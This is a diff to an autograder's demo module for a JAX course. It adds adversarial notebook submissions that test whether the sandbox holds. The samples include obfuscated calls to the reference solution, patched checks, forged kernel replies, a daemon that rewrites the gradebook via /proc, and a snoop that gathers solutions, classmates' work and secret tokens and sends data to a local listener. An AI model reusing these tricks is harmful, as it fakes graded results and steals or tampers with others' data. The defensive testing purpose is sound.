@@ -9,7 +9,9 @@ the class table. :data:`EXPECTED` says what each row must show; the tests check 
 from __future__ import annotations
 
 import copy
+import re
 import shutil
+import socket
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -64,6 +66,160 @@ WRONG_BCE = (
 )
 CHEAT_GAN = "jnp.allclose = lambda *a, **k: True\n" + WRONG_BCE
 
+# --- attacks: one submission per row of the threat model (README, "For instructors") ----------
+# Calling the library's reference from the answer, six ways; the probes catch the call.
+CALL_REFERENCE = {
+    "logsumexp": "def logsumexp(x, axis=-1):\n"
+    "    from genlab.primer import logsumexp as reference\n"
+    "    return reference(x, axis=axis)",
+    "sample_mixture": "import importlib\n\ndef sample_mixture(key, means, stds, n):\n"
+    '    module = importlib.import_module("genlab." + "primer")\n'
+    "    return module.sample_mixture(key, means, stds, n)",
+    "mse_grad": "def mse_grad(w, x, y):\n"
+    '    return __import__("genlab.primer", fromlist=["_"]).mse_grad(w, x, y)',
+    "per_example_grads": "import sys\nimport genlab.probes\n\ndef per_example_grads(w, x, y):\n"
+    '    return sys.modules["genlab.primer"].per_example_grads(w, x, y)',
+    "power_sum": 'power_sum = getattr(getattr(__import__("genlab.primer"), "pri" + "mer"), '
+    '"power_" + "sum")',
+    "noisy_copies": "import base64\n"
+    'exec(base64.b64decode("ZnJvbSBnZW5sYWIucHJpbWVyIGltcG9ydCBub2lzeV9jb3BpZXM="))',
+}
+# Copying the reference's source at run time; nothing can stop it, the scan flags it.
+COPY_REFERENCE = {
+    "logsumexp": "import inspect\nimport genlab.primer as _p\n_ns = dict(vars(_p))\n"
+    "exec(inspect.getsource(_p.logsumexp), _ns)\nlogsumexp = _ns['logsumexp']",
+    "mse_grad": "import genlab.primer\n_ns = {}\n"
+    "exec(compile(open(genlab.primer.__file__).read(), 'copy', 'exec'), _ns)\n"
+    "mse_grad = _ns['mse_grad']",
+    "per_example_grads": "import pkgutil\n_ns = {}\n"
+    "exec(pkgutil.get_data('genlab', 'primer.py').decode(), _ns)\n"
+    "per_example_grads = _ns['per_example_grads']",
+    "noisy_copies": "import linecache\nimport genlab.primer\n_ns = {}\n"
+    "exec(''.join(linecache.getlines(genlab.primer.__file__)), _ns)\n"
+    "noisy_copies = _ns['noisy_copies']",
+}
+# Wrong answers that also replace the reference they are compared with, five ways.
+SWAPPED_KEYS = (
+    "def sample_mixture(key, means, stds, n):\n"
+    "    k_noise, k_component = jax.random.split(key)\n"
+    "    components = jax.random.randint(k_component, (n,), 0, means.shape[0])\n"
+    "    return means[components] + stds[components] * jax.random.normal(k_noise, (n,))\n"
+)
+REPLACE_REFERENCE = {
+    "logsumexp": NAIVE_LOGSUMEXP + "\n\nfrom genlab import primer\nprimer.logsumexp = logsumexp",
+    "sample_mixture": SWAPPED_KEYS + 'setattr(__import__("genlab.primer", fromlist=["_"]), '
+    '"sample_" + "mixture", sample_mixture)',
+    "mse_grad": HALF_MSE_GRAD + '\nimport sys\nsys.modules["genlab.primer"].__dict__["mse_grad"]'
+    " = mse_grad",
+    "per_example_grads": "def per_example_grads(w, x, y):\n    return x * (x @ w - y)[:, None]\n"
+    "import genlab.primer\n"
+    'vars(genlab.primer)["per_example_grads"] = per_example_grads',
+    "power_sum": '@functools.partial(jax.jit, static_argnames="n")\ndef power_sum(x, n):\n'
+    "    return sum(x**k for k in range(1, n))\n"
+    "import genlab.primer\n"
+    "genlab.primer.power_sum.__wrapped__.__code__ = power_sum.__wrapped__.__code__",
+}
+# Patching the checks and NumPy in ways an older scan missed (an untouched notebook otherwise).
+PATCH_CHECKS = (
+    'setattr(__import__("genlab.check", fromlist=["_"]), "all" + "close", lambda *a, **k: None)\n'
+    'exec("check.equal = lambda *a, **k: None")\n'
+    "class check:\n"
+    "    allclose = shape = dtype = finite = equal = is_true = staticmethod(lambda *a, **k: None)\n"
+    "np.where = lambda *a, **k: 0\n"
+    "%time jnp.allclose = lambda *a, **k: True\n" + NAIVE_LOGSUMEXP
+)
+# Replies forged by the kernel: the test cells "pass" without running.
+FORGE_REPLIES = (
+    "_kernel = get_ipython().kernel\n_run = _kernel.do_execute\n\n"
+    "def _always_ok(code, silent, *args, **kwargs):\n"
+    '    if "check." in code:\n'
+    '        return {"status": "ok", "execution_count": _kernel.execution_count, "payload": [],\n'
+    '                "user_expressions": {}}\n'
+    "    return _run(code, silent, *args, **kwargs)\n\n"
+    "_kernel.do_execute = _always_ok\n" + NAIVE_LOGSUMEXP
+)
+BLANK_TESTS = (
+    "import os\n\ndef _blank(lines):\n"
+    '    graded = os.environ.get("NBGRADER_EXECUTION") == "autograde"\n'
+    '    return [] if graded and any("check." in line for line in lines) else lines\n\n'
+    "get_ipython().input_transformers_cleanup.append(_blank)\n" + NAIVE_LOGSUMEXP
+)
+# Rewriting the gradebook found through /proc, erasing the evidence, leaving a daemon behind.
+DAEMON_MARK = "genlab-demo-daemon"
+GRADEBOOK = (
+    "import glob, os, shutil, sqlite3, sys\n"
+    "courses = set()\n"
+    'for pid in filter(str.isdigit, os.listdir("/proc")):\n'
+    "    try:\n"
+    '        cwd = os.readlink(f"/proc/{pid}/cwd")\n'
+    "    except OSError:\n"
+    "        continue\n"
+    '    if os.path.exists(os.path.join(cwd, "gradebook.db")):\n'
+    "        courses.add(cwd)\n"
+    "for course in courses:\n"
+    "    try:\n"
+    '        db = sqlite3.connect(os.path.join(course, "gradebook.db"))\n'
+    '        db.execute("UPDATE grade SET manual_score = 0")\n'
+    '        db.execute("UPDATE grade SET manual_score = max_score WHERE notebook_id IN (SELECT '
+    "sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
+    "WHERE sa.student_id = 'gradebook')\")\n"
+    "        db.commit()\n"
+    "    except Exception as error:\n"
+    '        print("gradebook:", error)\n'
+    '    for release in glob.glob(os.path.join(course, "*", "00_jax_primer", "*.ipynb")):\n'
+    "        try:\n"
+    '            shutil.copy(release, os.path.join(course, "submitted", "gradebook", '
+    '"00_jax_primer"))\n'
+    "        except Exception:\n"
+    "            pass\n"
+    "if os.fork() == 0:\n"
+    "    os.setsid()\n"
+    "    if os.fork() == 0:\n"
+    '        os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile True: '
+    f'time.sleep(1)", "{DAEMON_MARK}"])\n'
+    "    os._exit(0)\n"
+    "os.wait()\n" + NAIVE_LOGSUMEXP
+)
+# Reading what is not the student's: solutions, classmates, the instructor's environment, the
+# network, the library's files. {port} is a listener the demo opens on the grader's 127.0.0.1.
+SECRET_NAME, PWNED = "GENLAB_DEMO_INSTRUCTOR_TOKEN", "pwned-by-demo-snoop"
+SNOOP = (
+    "import glob, os, socket, sys\nimport genlab\n"
+    "seen = {}\n"
+    'places = ["/work", "/root", "/home", "/tmp", "/srv", "..", "../..", "../../..",\n'
+    '          "/proc/*/cwd"]\n'
+    'seen["solutions"] = [p for d in places for p in glob.glob(d + "/**/solutions/*/*.ipynb", '
+    "recursive=True)][:5]\n"
+    'seen["classmates"] = [p for d in places for p in glob.glob(d + "/**/submitted/*/*/*.ipynb", '
+    'recursive=True) if "/snoop/" not in p][:5]\n'
+    'seen["environment"] = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}\n'
+    "try:\n"
+    '    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"hidden tests")\n'
+    '    seen["network"] = "sent"\n'
+    "except OSError as error:\n"
+    '    seen["network"] = type(error).__name__\n'
+    "for folder in (os.path.dirname(genlab.__file__), sys.prefix):\n"
+    "    try:\n"
+    f'        open(os.path.join(folder, "{PWNED}"), "w").write("x")\n'
+    '        seen[folder] = "written"\n'
+    "    except OSError as error:\n"
+    "        seen[folder] = type(error).__name__\n"
+    'print("SNOOP", seen)\n' + NAIVE_LOGSUMEXP
+)
+
+
+def displayhook_stubs(release_nb) -> dict[str, str]:
+    """Every stub of the release with ``sys.displayhook`` forging a result before it raises."""
+    answers = {}
+    for name in grading.exercise_names(release_nb):
+        source = grading.graded_cells(release_nb)[name].source
+        answers[name] = re.sub(
+            r"^(\s*)raise NotImplementedError\(\)",
+            r'\1__import__("sys").displayhook(2.0)\n\1raise NotImplementedError()',
+            source, flags=re.M,
+        )  # fmt: skip
+    return answers
+
 
 @dataclass(frozen=True)
 class Expected:
@@ -96,6 +252,22 @@ CASES = {
         "huge_output": ({"noisy_copies": HUGE_OUTPUT}, None, Expected((), "output truncated")),
         "cheat": ({"logsumexp": CHEAT}, None,
                   Expected(("test_logsumexp",), "", flagged=True)),
+        # The threat model, one row each (README): forging never scores, nothing escapes the
+        # sandbox, calling or copying the library is flagged.
+        "call_reference": (CALL_REFERENCE, None, Expected(tuple(
+            f"test_{name}" for name in CALL_REFERENCE), flagged=True)),
+        # A copy compiled from the module's own source has the reference's code objects, so the
+        # probes catch three of these; the copy of one function passes, flagged by the scan.
+        "copy_reference": (COPY_REFERENCE, None, Expected(
+            ("test_mse_grad", "test_per_example_grads", "test_noisy_copies"), flagged=True)),
+        "replace_reference": (REPLACE_REFERENCE, None, Expected(tuple(
+            f"test_{name}" for name in REPLACE_REFERENCE), flagged=True)),
+        "patch_checks": ({"logsumexp": PATCH_CHECKS}, "untouched", Expected(None, flagged=True)),
+        "displayhook": ({}, "displayhook", Expected(None, flagged=True)),
+        "forge_replies": ({"logsumexp": FORGE_REPLIES}, "untouched", Expected(None, flagged=True)),
+        "blank_tests": ({"logsumexp": BLANK_TESTS}, "untouched", Expected(None, flagged=True)),
+        "gradebook": ({"logsumexp": GRADEBOOK}, "untouched", Expected(None, flagged=True)),
+        "snoop": ({"logsumexp": SNOOP}, "untouched", Expected(None, flagged=True)),
     },
     "01_gan_math": {
         "correct": ({}, None, Expected()),
@@ -122,8 +294,12 @@ def _surgery(nb, how: str | None):
     return nb
 
 
-def write_submissions(root: Path, chapter: str, cases: dict | None = None) -> list[str]:
-    """Write the demo submissions of ``chapter`` into ``root/submitted``; return the students."""
+def write_submissions(root: Path, chapter: str, cases: dict | None = None, *,
+                      port: int = 9) -> list[str]:  # fmt: skip
+    """Write the demo submissions of ``chapter`` into ``root/submitted``; return the students.
+
+    ``port``: where the snooping submission tries to send the hidden tests.
+    """
     cases = CASES[chapter] if cases is None else cases
     name = f"{chapter}.ipynb"
     release_dir = root / "chapters" / chapter
@@ -138,9 +314,11 @@ def write_submissions(root: Path, chapter: str, cases: dict | None = None) -> li
         if how == "broken_json":
             (folder / name).write_text('{"cells": [ this is not json', encoding="utf-8")
             continue
-        nb = release_nb if answers is None else filled
+        nb = release_nb if answers is None or how in ("untouched", "displayhook") else filled
+        if how == "displayhook":
+            answers = displayhook_stubs(release_nb)
         for function, source in (answers or {}).items():
-            nb = grading.replace_answer(nb, function, source)
+            nb = grading.replace_answer(nb, function, source.replace("{port}", str(port)))
         nbformat.write(_surgery(nb, how), folder / name)
     return list(cases)
 
@@ -160,8 +338,12 @@ def make_course(root: Path, repo: Path, chapters=CHAPTERS) -> Path:
 
 @dataclass
 class DemoResult:
+    """The graded demo class; ``received`` is what reached the listener on the grader's
+    127.0.0.1 (nothing, when the sandbox holds)."""
+
     root: Path
     rows: list = field(default_factory=list)
+    received: bytes = b""
 
     @property
     def table(self) -> str:
@@ -170,12 +352,36 @@ class DemoResult:
 
 def run_demo(root: Path, repo: Path, *, chapters=CHAPTERS, workers: int = 2,
              progress: bool = True) -> DemoResult:  # fmt: skip
-    """Build, grade and give feedback on the demo class; return its rows."""
+    """Build, grade and give feedback on the demo class; return its rows.
+
+    While it grades, a listener on the grader's 127.0.0.1 waits for the snooping submission.
+    """
     make_course(root, repo, chapters)
     result = DemoResult(root)
-    for chapter in chapters:
-        write_submissions(root, chapter)
-        result.rows += grade(root, chapter, workers=workers, limits=LIMITS[chapter],
-                             progress=progress)  # fmt: skip
-        feedback(root, chapter)
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(8)
+        listener.setblocking(False)
+        for chapter in chapters:
+            write_submissions(root, chapter, port=listener.getsockname()[1])
+            result.rows += grade(root, chapter, workers=workers, limits=LIMITS[chapter],
+                                 progress=progress)  # fmt: skip
+            feedback(root, chapter)
+        result.received = _drain(listener)
     return result
+
+
+def _drain(listener: socket.socket) -> bytes:
+    """Everything sent to ``listener`` so far (it never blocks)."""
+    received = b""
+    while True:
+        try:
+            connection, _ = listener.accept()
+        except BlockingIOError:
+            return received
+        with connection:
+            connection.settimeout(1)
+            try:
+                received += connection.recv(1 << 16) or b"(connected)"
+            except OSError:
+                received += b"(connected)"
